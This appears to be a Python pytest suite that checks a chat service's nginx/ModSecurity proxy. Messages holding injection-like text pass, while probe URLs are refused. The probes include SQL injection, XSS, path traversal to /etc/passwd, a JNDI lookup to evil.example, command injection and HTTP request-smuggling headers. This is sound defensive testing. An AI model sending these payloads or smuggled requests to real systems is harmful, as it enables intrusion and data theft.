"""nginx with the shipped configuration and OWASP's Core Rule Set before two processes: what passes and what does not."""

import asyncio
import json
import re
import subprocess
import uuid
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import httpx
import pytest
from websockets.asyncio.client import connect

from support import backends, compose, servers, topology
from support.topology import Topology

WAIT_S = 60.0
SAID = [
    "Good morning!",
    "你好，我的订单还没有到，请帮我查一下。谢谢！",
    "<script>alert('xss')</script> and `SELECT * FROM users WHERE name = 'x' OR '1'='1'; DROP TABLE users; --`",
    "cat /etc/passwd | grep root; ../../etc/shadow ${jndi:ldap://x.example/a} {{7*7}} <?php system('id'); ?>",
    "🫖" * 200,
]


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Topology]:
    """The composition behind the guarded proxy."""
    for name in ("postgres", "redis", "chroma-server", "nginx", "modsecurity"):
        backends.require(name)
    with topology.running(tmp_path_factory.mktemp("guarded"), guarded=True) as running:
        yield running


@pytest.fixture(scope="module")
def token(guarded: Topology) -> str:
    """The owner's access token, got through the proxy."""
    password = (guarded.data / "operator-password.txt").read_text().strip()
    answer = httpx.post(
        f"{guarded.proxy}/v1/auth/sign-in", json={"handle": "operator", "password": password}, timeout=WAIT_S
    )
    assert answer.status_code == 200, answer.text
    return str(answer.json()["access_token"])


def caller(guarded: Topology, token: str) -> httpx.AsyncClient:
    """Calls the proxy as the owner."""
    headers = {"Authorization": f"Bearer {token}"}
    return httpx.AsyncClient(base_url=guarded.proxy, headers=headers, timeout=WAIT_S, trust_env=False)


async def group(http: httpx.AsyncClient) -> str:
    """A fresh group of the owner's."""
    made = await http.post("/v1/conversations", json={"kind": "group", "title": "Tea", "members": []})
    assert made.status_code == 201, made.text
    return str(made.json()["id"])


async def test_what_people_say_passes_whatever_it_is(guarded: Topology, token: str) -> None:
    async with caller(guarded, token) as http:
        place = await group(http)
        for said in SAID:
            sent = await http.post(
                f"/v1/conversations/{place}/messages",
                json={"body": {"text": said}},
                headers={"Idempotency-Key": uuid.uuid4().hex},
            )
            assert sent.status_code == 201, f"{said[:40]}: {sent.text}"
        shown = (await http.get(f"/v1/conversations/{place}/messages")).json()["messages"]
        assert [each["body"]["text"] for each in shown] == SAID
        found = await http.get("/v1/search", params={"q": "SELECT * FROM users WHERE '1'='1'"})
        assert found.status_code == 200
        found = await http.get("/v1/search", params={"q": "订单"})
        assert found.status_code == 200
        heart = await http.put(f"/v1/conversations/{place}/messages/1/reactions/%E2%9D%A4%EF%B8%8F")
        assert heart.status_code in {200, 204}, heart.text
        gone = await http.delete(f"/v1/conversations/{place}/messages/1")
        assert gone.status_code in {200, 204}, gone.text


async def test_a_socket_passes(guarded: Topology, token: str) -> None:
    async with caller(guarded, token) as http:
        place = await group(http)
    url = f"ws{guarded.proxy.removeprefix('http')}/v1/socket"
    async with connect(url, proxy=None, open_timeout=WAIT_S) as socket, asyncio.timeout(WAIT_S):
        await socket.send(json.dumps({"op": "hello", "v": 1, "token": token, "device": uuid.uuid4().hex}))
        assert json.loads(await socket.recv())["op"] == "ready"
        for said in SAID:
            frame = {"op": "send", "conversation": place, "client_id": uuid.uuid4().hex, "ref": said[:20]}
            await socket.send(json.dumps({**frame, "body": {"text": said}}))
            while not any(each.get("op") == "ack" for each in frames_of(await socket.recv())):
                pass


def frames_of(raw: str | bytes) -> list[dict[str, Any]]:
    """The frames of a message of the socket."""
    found = json.loads(raw)
    return found if isinstance(found, list) else [found]


async def test_an_event_stream_is_not_held_back(guarded: Topology, token: str) -> None:
    async with caller(guarded, token) as http, http.stream("GET", "/v1/events") as stream:
        assert stream.status_code == 200
        async with asyncio.timeout(WAIT_S):
            assert await anext(stream.aiter_lines()) is not None


async def test_a_file_passes_and_comes_back_as_it_was(guarded: Topology, token: str) -> None:
    content = b"%PDF-1.4 <script>alert(1)</script> ' OR '1'='1 " + bytes(range(256)) * 4096
    async with caller(guarded, token) as http:
        made = await http.post("/v1/files", json={"name": "scan.pdf", "size": len(content)})
        assert made.status_code == 201, made.text
        headers = {"Upload-Offset": "0", "Content-Type": "application/offset+octet-stream"}
        sent = await http.patch(f"/v1/files/{made.json()['id']}", content=content, headers=headers)
        assert sent.status_code == 200, sent.text
        place = await group(http)
        said = {"body": {"text": "here", "files": [made.json()["id"]]}}
        await http.post(
            f"/v1/conversations/{place}/messages", json=said, headers={"Idempotency-Key": uuid.uuid4().hex}
        )
        got = await http.get(f"/v1/files/{made.json()['id']}")
        assert got.content == content
        assert "nosniff" in got.headers["x-content-type-options"]


PROBES = [
    "/?q=1' UNION SELECT username, password FROM users--",
    "/?q=<script>alert(document.cookie)</script>",
    "/v1/files/..%2f..%2f..%2fetc%2fpasswd",
    "/v1/inboxes/x?file=../../../../etc/passwd",
    "/?x=${jndi:ldap://evil.example/a}",
    "/?cmd=;cat /etc/passwd",
    "/.git/config",
    "/?page=php://input",
]


@pytest.mark.parametrize("probe", PROBES)
async def test_a_probe_is_refused_by_the_rule_set(guarded: Topology, probe: str) -> None:
    async with httpx.AsyncClient(base_url=guarded.proxy, timeout=WAIT_S, trust_env=False) as http:
        answer = await http.get(probe)
    assert answer.status_code in {400, 403}, f"{answer.status_code}: {answer.text[:200]}"


@pytest.mark.parametrize("agent", ["sqlmap/1.7", "Nikto/2.5", "masscan/1.3"])
async def test_scanners_that_say_so_are_refused(guarded: Topology, agent: str) -> None:
    async with httpx.AsyncClient(base_url=guarded.proxy, timeout=WAIT_S, trust_env=False) as http:
        assert (await http.get("/", headers={"User-Agent": agent})).status_code == 403


async def raw(guarded: Topology, *pieces: bytes, pause_s: float = 0.0) -> bytes:
    """Everything that the proxy answers to these bytes until it hangs up."""
    host, _, port = guarded.proxy.removeprefix("http://").partition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    try:
        with suppress(ConnectionError):
            for piece in pieces:
                writer.write(piece)
                await writer.drain()
                await asyncio.sleep(pause_s)
        async with asyncio.timeout(WAIT_S):
            return await reader.read()
    except ConnectionError:
        return b""
    finally:
        writer.close()


SMUGGLED = b"GET /v1/me HTTP/1.1\r\nHost: myna\r\n\r\n"


@pytest.mark.parametrize(
    "head",
    [
        b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
        b"Content-Length: 4\r\nContent-Length: 40\r\n\r\nabcd" + SMUGGLED,
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + SMUGGLED,
        b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
    ],
    ids=["both lengths", "two lengths", "two encodings", "unknown encoding"],
)
async def test_a_request_in_a_request_reaches_nobody(guarded: Topology, head: bytes) -> None:
    answer = await raw(guarded, b"POST /v1/auth/sign-in HTTP/1.1\r\nHost: myna\r\nUser-Agent: x\r\n" + head)
    statuses = [line.split()[1] for line in answer.split(b"\r\n") if line.startswith(b"HTTP/1.1 ")]
    assert len(statuses) <= 1, answer
    assert not statuses or statuses[0] in {b"400", b"501", b"403"}, answer


async def test_slow_loris_is_hung_up_on(guarded: Topology) -> None:
    begun = asyncio.get_running_loop().time()
    await raw(guarded, b"GET / HTTP/1.1\r\nHost: myna\r\nX-A: b")
    assert asyncio.get_running_loop().time() - begun < WAIT_S


async def test_the_proxy_names_the_client_and_no_client_can_name_another(guarded: Topology) -> None:
    async with httpx.AsyncClient(base_url=guarded.proxy, timeout=WAIT_S, trust_env=False) as http:
        for _ in range(4):
            await http.get("/v1/inboxes/x", headers={"X-Forwarded-For": "203.0.113.99"})
        page = await http.get("/dashboard/")
    assert page.status_code == 200
    for name in (
        "content-security-policy",
        "x-content-type-options",
        "referrer-policy",
        "permissions-policy",
    ):
        assert name in page.headers
    assert "nginx/" not in page.headers.get("server", "")


async def test_a_block_that_one_process_makes_holds_in_the_other(guarded: Topology, token: str) -> None:
    """Two real processes, each asked behind the proxy: made at one, lifted at the other."""
    one, other = (server.url for _, server in guarded.processes.values())
    evil, owner = {"X-Forwarded-For": "203.0.113.77"}, {"Authorization": f"Bearer {token}"}
    async with httpx.AsyncClient(timeout=WAIT_S, trust_env=False) as http, asyncio.timeout(WAIT_S):
        for url in (one, other):
            assert (await http.get(f"{url}/v1/inboxes/none", headers=evil)).status_code == 404
        asked = {"address": "203.0.113.77", "reason": "by hand"}
        made = await http.post(f"{one}/v1/admin/blocks", json=asked, headers=owner)
        assert made.is_success, made.text
        assert (await http.get(f"{one}/v1/inboxes/none", headers=evil)).status_code == 403
        while (told := await http.get(f"{other}/v1/inboxes/none", headers=evil)).status_code != 403:
            await asyncio.sleep(0.02)
        assert told.json()["code"] == "blocked"
        shown = (await http.get(f"{other}/v1/admin/blocks", headers=owner)).json()["blocks"]
        assert "203.0.113.77" in [each["address"] for each in shown]
        lifted = await http.post(
            f"{other}/v1/admin/blocks/lift", json={"address": "203.0.113.77"}, headers=owner
        )
        assert lifted.is_success, lifted.text
        while (await http.get(f"{one}/v1/inboxes/none", headers=evil)).status_code == 403:
            await asyncio.sleep(0.02)


def test_what_the_guide_says_of_tls_is_a_configuration(tmp_path: Path) -> None:
    """As whoever follows it would do: the block of the guide in place of the plain port, as this nginx spells it."""
    backends.require("nginx")
    nginx, guide = servers.nginx_path(), (backends.ROOT / "docs" / "operations.md").read_text("utf-8")
    assert nginx is not None
    (block,) = re.findall(r"```nginx\n(listen 8443.*?)```", guide, re.DOTALL)
    version = tuple(
        map(
            int,
            re.findall(
                r"nginx/(\d+)\.(\d+)\.(\d+)",
                subprocess.run([nginx, "-v"], capture_output=True, text=True, check=True).stderr,
            )[0],
        )
    )
    if version < (1, 25, 1):
        assert "listen 8443 ssl http2;" in guide
        block = block.replace("http2 on;\n", "").replace("listen 8443 ssl;", "listen 8443 ssl http2;")
    key, certificate = tmp_path / "privkey.pem", tmp_path / "fullchain.pem"
    subprocess.run(
        [
            "openssl",
            "req",
            "-x509",
            "-newkey",
            "rsa:2048",
            "-nodes",
            "-days",
            "2",
            "-subj",
            "/CN=myna.test",
            "-keyout",
            str(key),
            "-out",
            str(certificate),
        ],
        check=True,
        capture_output=True,
    )
    shipped = compose.NGINX.read_text("utf-8")
    assert shipped.count("listen 8080;") == 1
    made = shipped.replace("listen 8080;", block.replace("/etc/nginx/tls", str(tmp_path)))
    for number in (1, 2):
        made = made.replace(f"myna-{number}:8000", f"127.0.0.1:{18000 + number}")
    file = tmp_path / "nginx.conf"
    file.write_text(made.replace("/tmp/nginx.pid", str(tmp_path / "nginx.pid")))
    checked = subprocess.run([nginx, "-t", "-c", file], capture_output=True, text=True, check=False)
    assert checked.returncode == 0, checked.stderr
